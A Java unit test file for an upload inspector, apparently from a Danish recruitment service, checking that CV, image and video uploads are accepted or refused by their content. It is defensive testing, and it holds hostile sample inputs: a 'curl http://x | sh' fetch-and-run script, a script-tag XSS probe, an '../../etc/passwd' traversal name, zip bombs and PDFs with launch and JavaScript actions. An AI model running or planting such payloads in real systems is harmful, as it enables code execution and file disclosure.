package dk.rekrut.storage;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.UncheckedIOException;
import java.net.ConnectException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import dk.rekrut.storage.Samples.Action;
import dk.rekrut.storage.Samples.Protection;
import dk.rekrut.storage.UploadInspector.Accepted;
import dk.rekrut.storage.UploadInspector.Refused;
import org.junit.jupiter.api.Test;

/** Every type Rekrut takes is accepted by its content; every refusal has its own message key. */
class UploadInspectorTest {

    private static final UploadInspector.Limits LIMITS = UploadInspector.Limits.defaults();
    private final UploadInspector inspector = new UploadInspector(LIMITS, new VirusScanners.NoScanner());

    @Test
    void acceptsTheDocumentTypesApplicantsSendByTheirContent() {
        assertThat(accepted("cv.pdf", Samples.pdf("Curriculum vitae"))).isEqualTo(DetectedType.PDF);
        assertThat(accepted("cv.docx", Samples.docx("Curriculum vitae"))).isEqualTo(DetectedType.DOCX);
        assertThat(accepted("cv.odt", Samples.odt())).isEqualTo(DetectedType.ODT);
        assertThat(accepted("cv.rtf", "{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}} Hej S\\'f8ren}".getBytes(StandardCharsets.US_ASCII)))
            .isEqualTo(DetectedType.RTF);
        assertThat(accepted("cv.txt", "Jeg hedder Søren Ærø og søger stillingen.\r\n".getBytes(StandardCharsets.UTF_8)))
            .isEqualTo(DetectedType.TXT);
        assertThat(accepted("cv.txt", "Jeg hedder Søren Ærø – og søger stillingen.".getBytes(Charset.forName("windows-1252"))))
            .isEqualTo(DetectedType.TXT);
        assertThat(accepted("foto.jpg", Samples.image("jpg"))).isEqualTo(DetectedType.JPEG);
        assertThat(accepted("foto.JPEG", Samples.image("jpg"))).isEqualTo(DetectedType.JPEG);
        assertThat(accepted("foto.png", Samples.image("png"))).isEqualTo(DetectedType.PNG);
    }

    @Test
    void theContentDecidesNotTheName() {
        // No extension, or an unknown one: the type still comes from the content, and so does the safe extension.
        var pdf = (Accepted) inspector.inspect("ansøgning", Samples.pdf("Ansøgning"));
        assertThat(pdf.detectedType()).isEqualTo(DetectedType.PDF);
        assertThat(pdf.safeExtension()).isEqualTo("pdf");
        assertThat(pdf.type()).isEqualTo("pdf");
        assertThat(pdf.contentType()).isEqualTo("application/pdf");
        var docx = (Accepted) inspector.inspect("cv.download", Samples.docx("CV"));
        assertThat(docx.safeExtension()).isEqualTo("docx");
        var text = (Accepted) inspector.inspect("noter", "æøå".getBytes(StandardCharsets.UTF_8));
        assertThat(text.contentType()).isEqualTo("text/plain; charset=UTF-8");
        var oldText = (Accepted) inspector.inspect("noter.txt", "æøå".getBytes(Charset.forName("windows-1252")));
        assertThat(oldText.contentType()).isEqualTo("text/plain; charset=windows-1252");
    }

    @Test
    void refusesFilesThatAreTooLargeOrEmpty() {
        assertThat(refused("cv.pdf", new byte[0])).isEqualTo("error.upload.empty");
        var tooLarge = (Refused) inspector.inspect("cv.pdf", Samples.oversized((int) LIMITS.maxFileBytes() + 1));
        assertThat(tooLarge.messageKey()).isEqualTo("error.upload.too-large");
        assertThat(tooLarge.args()).containsExactly(10L);
        // Exactly at the limit is still inspected (and here refused only because random bytes are no PDF).
        assertThat(refused("cv.pdf", Samples.oversized((int) LIMITS.maxFileBytes()))).isEqualTo("error.upload.corrupt");
    }

    @Test
    void refusesExecutablesWhateverTheyAreCalled() {
        assertThat(refused("cv.pdf", Samples.windowsExecutable())).isEqualTo("error.upload.executable");
        assertThat(refused("cv.pdf", Samples.elfExecutable())).isEqualTo("error.upload.executable");
        assertThat(refused("cv.pdf", Samples.machOExecutable())).isEqualTo("error.upload.executable");
        assertThat(refused("cv.txt", "#!/bin/sh\ncurl http://x | sh\n".getBytes(StandardCharsets.US_ASCII))).isEqualTo("error.upload.executable");
        assertThat(refused("ansøgning", Samples.windowsExecutable())).isEqualTo("error.upload.executable");
    }

    @Test
    void refusesEncryptedDocuments() {
        assertThat(refused("cv.pdf", Samples.pdf("hemmelig", Protection.USER_PASSWORD, null))).isEqualTo("error.upload.encrypted");
        assertThat(refused("cv.pdf", Samples.pdf("låst", Protection.OWNER_PASSWORD_ONLY, null))).isEqualTo("error.upload.encrypted");
        assertThat(refused("cv.docx", Samples.encryptedDocx("hemmelig"))).isEqualTo("error.upload.encrypted");
    }

    @Test
    void refusesCorruptDocumentsAndFilesThatOnlyClaimToBeDocuments() {
        assertThat(refused("cv.pdf", "%PDF-1.7\nthis is not really a pdf".getBytes(StandardCharsets.US_ASCII))).isEqualTo("error.upload.corrupt");
        byte[] pdf = Samples.pdf("afkortet");
        assertThat(refused("cv.pdf", Arrays.copyOf(pdf, pdf.length / 3))).isEqualTo("error.upload.corrupt");
        assertThat(refused("cv.docx", "PK\u0003\u0004garbage that is no zip".getBytes(StandardCharsets.ISO_8859_1))).isEqualTo("error.upload.corrupt");
        byte[] docx = Samples.docx("afkortet");
        assertThat(refused("cv.docx", Arrays.copyOf(docx, docx.length / 2))).isEqualTo("error.upload.corrupt");
        // Plain text called .pdf: the applicant gets told that the name and the content disagree.
        var mismatch = (Refused) inspector.inspect("cv.pdf", "Jeg er ikke en PDF".getBytes(StandardCharsets.UTF_8));
        assertThat(mismatch.messageKey()).isEqualTo("error.upload.mismatch");
        assertThat(mismatch.args()).containsExactly("PDF");
        assertThat(refused("cv.docx", Samples.pdf("x"))).isEqualTo("error.upload.mismatch");
        assertThat(refused("foto.png", Samples.image("jpg"))).isEqualTo("error.upload.mismatch");
        assertThat(refused("cv.doc", Samples.docx("x"))).isEqualTo("error.upload.mismatch");
    }

    @Test
    void refusesTypesRekrutDoesNotTake() {
        assertThat(refused("cv.bin", new byte[] {1, 2, 3, 0, 5})).isEqualTo("error.upload.type");
        assertThat(refused("data.xlsx", Samples.xlsxLike())).isEqualTo("error.upload.type");
        assertThat(refused("cv.doc", new byte[] {(byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, (byte) 0xa1, (byte) 0xb1, 0x1a,
            (byte) 0xe1, 0, 0})).isIn("error.upload.type", "error.upload.corrupt");
        assertThat(refused("tekst.txt", "UTF-16 tekst".getBytes(StandardCharsets.UTF_16))).isEqualTo("error.upload.type");
        // A fine PDF with a name that would make a download dangerous.
        assertThat(refused("cv.exe", Samples.pdf("x"))).isEqualTo("error.upload.type");
        assertThat(refused("cv.html", "<script>alert(1)</script>".getBytes(StandardCharsets.US_ASCII))).isEqualTo("error.upload.type");
    }

    @Test
    void refusesZipBombsWithoutUnpackingThem() {
        byte[] bomb = Samples.docxZipBomb(150); // 150 MB of zeros in about 150 KB
        assertThat(bomb.length).isLessThan(1_000_000);
        assertThat(refused("cv.docx", bomb)).isEqualTo("error.upload.zip-bomb");
        assertThat(refused("cv.odt", Samples.odtZipBomb(20))).isEqualTo("error.upload.zip-bomb");
        assertThat(refused("cv.docx", Samples.docxWithEntries(LIMITS.maxZipEntries() + 1))).isEqualTo("error.upload.zip-bomb");
        // Under the limits the same shapes are fine.
        assertThat(inspector.inspect("cv.docx", Samples.docxWithEntries(50))).isInstanceOf(Accepted.class);
        // The total cap on its own (a low ratio limit would otherwise fire first).
        var capped = new UploadInspector(new UploadInspector.Limits(10L << 20, 25L << 20, 2L << 20, 10_000, 100_000, true, 50L << 20),
            new VirusScanners.NoScanner());
        assertThat(((Refused) capped.inspect("cv.docx", Samples.docxZipBomb(3))).messageKey()).isEqualTo("error.upload.zip-bomb");
        assertThat(capped.inspect("cv.docx", Samples.docxZipBomb(1))).isInstanceOf(Accepted.class);
    }

    @Test
    void refusesActiveContent() {
        assertThat(refused("cv.pdf", Samples.pdf("x", Protection.NONE, Action.LAUNCH))).isEqualTo("error.upload.active-content");
        assertThat(refused("cv.pdf", Samples.pdf("x", Protection.NONE, Action.JAVASCRIPT))).isEqualTo("error.upload.active-content");
        assertThat(refused("cv.docx", Samples.docxWithMacros())).isEqualTo("error.upload.active-content");
        assertThat(refused("cv.rtf", "{\\rtf1 {\\object\\objemb {\\*\\objdata 0105000002000000}}}".getBytes(StandardCharsets.US_ASCII)))
            .isEqualTo("error.upload.active-content");
        // Scripts may be allowed by configuration; then the PDF is accepted and flagged. Launch actions never are.
        var lenient = new UploadInspector(new UploadInspector.Limits(10L << 20, 25L << 20, 100L << 20, 10_000, 100, false, 50L << 20),
            new VirusScanners.NoScanner());
        var flagged = (Accepted) lenient.inspect("cv.pdf", Samples.pdf("x", Protection.NONE, Action.JAVASCRIPT));
        assertThat(flagged.warnings()).containsExactly("pdf-javascript");
        assertThat(lenient.inspect("cv.pdf", Samples.pdf("x", Protection.NONE, Action.LAUNCH))).isInstanceOf(Refused.class);
        assertThat(((Accepted) lenient.inspect("cv.pdf", Samples.pdf("x"))).warnings()).isEmpty();
    }

    @Test
    void aVirusIsRefusedAndAScannerThatCannotAnswerFailsClosed() {
        var scanned = new ArrayList<byte[]>();
        var infected = new UploadInspector(LIMITS, c -> {
            scanned.add(c);
            return VirusScanner.ScanResult.infected("Eicar-Signature");
        });
        assertThat(((Refused) infected.inspect("cv.pdf", Samples.pdf("x"))).messageKey()).isEqualTo("error.upload.virus");
        assertThat(scanned).hasSize(1);
        var down = new UploadInspector(LIMITS, c -> {
            throw new UncheckedIOException(new ConnectException("refused"));
        });
        assertThat(((Refused) down.inspect("cv.pdf", Samples.pdf("x"))).messageKey()).isEqualTo("error.upload.scan-unavailable");
        // Files refused by content are not sent to the scanner at all.
        infected.inspect("cv.pdf", Samples.windowsExecutable());
        assertThat(scanned).hasSize(1);
    }

    @Test
    void theTotalPerApplicationIsLimited() {
        assertThat(inspector.checkTotal(LIMITS.maxTotalBytes())).isEmpty();
        assertThat(inspector.checkTotal(LIMITS.maxTotalBytes() + 1)).contains("error.upload.total-too-large");
        assertThat(inspector.checkTotalSize(LIMITS.maxTotalBytes() + 1)).get()
            .extracting(Refused::args).isEqualTo(List.of(25L));
        assertThat(inspector.maxFileBytes()).isEqualTo(10L << 20);
        assertThat(inspector.maxTotalBytes()).isEqualTo(25L << 20);
    }

    @Test
    void extensionsAreReadFromTheLastPathSegment() {
        assertThat(UploadInspector.extension("C:\\Users\\s\\cv.PDF")).isEqualTo("pdf");
        assertThat(UploadInspector.extension("../../etc/passwd")).isEmpty();
        assertThat(UploadInspector.extension(null)).isEmpty();
    }

    @Test
    void videoApplicationsAreRecognisedByTheirContainerAndOnlyAsVideo() {
        assertThat(((Accepted) inspector.inspectVideo("mig.mp4", Samples.mp4("isom", 1000))).detectedType())
            .isEqualTo(DetectedType.MP4);
        assertThat(((Accepted) inspector.inspectVideo("mig.mov", Samples.mp4("qt  ", 1000))).detectedType())
            .isEqualTo(DetectedType.MOV);
        assertThat(((Accepted) inspector.inspectVideo("mig", Samples.webm(1000))).detectedType())
            .isEqualTo(DetectedType.WEBM);
        // A phone's MP4 named .mov is fine (QuickTime players take both); a PDF or a program named .mp4 is not.
        assertThat(inspector.inspectVideo("mig.mov", Samples.mp4("mp42", 10))).isInstanceOf(Accepted.class);
        assertThat(((Refused) inspector.inspectVideo("mig.mp4", Samples.pdf("CV"))).messageKey()).isEqualTo("error.upload.video-type");
        assertThat(((Refused) inspector.inspectVideo("mig.mp4", Samples.windowsExecutable())).messageKey()).isEqualTo("error.upload.video-type");
        assertThat(((Refused) inspector.inspectVideo("mig.webm", Samples.mp4("isom", 10))).messageKey()).isEqualTo("error.upload.mismatch");
        assertThat(((Refused) inspector.inspectVideo("mig.mp4", new byte[0])).messageKey()).isEqualTo("error.upload.empty");
        // A video has its own, larger limit, and is never taken as a document.
        var big = Samples.mp4("isom", (int) LIMITS.maxFileBytes() + 10);
        assertThat(inspector.inspectVideo("mig.mp4", big)).isInstanceOf(Accepted.class);
        var tooBig = (Refused) inspector.inspectVideo("mig.mp4", Samples.mp4("isom", (int) LIMITS.maxVideoBytes()));
        assertThat(tooBig.messageKey()).isEqualTo("error.upload.video-too-large");
        assertThat(tooBig.args()).containsExactly(50L);
        assertThat(refused("cv.pdf", Samples.mp4("isom", 1000))).isEqualTo("error.upload.video-as-document");
        assertThat(refused("cv", Samples.webm(1000))).isEqualTo("error.upload.video-as-document");
    }

    private DetectedType accepted(String name, byte[] content) {
        var r = inspector.inspect(name, content);
        assertThat(r).as(name).isInstanceOf(Accepted.class);
        var a = (Accepted) r;
        assertThat(a.safeExtension()).isEqualTo(a.detectedType().extension());
        return a.detectedType();
    }

    private String refused(String name, byte[] content) {
        var r = inspector.inspect(name, content);
        assertThat(r).as(name).isInstanceOf(Refused.class);
        return ((Refused) r).messageKey();
    }
}
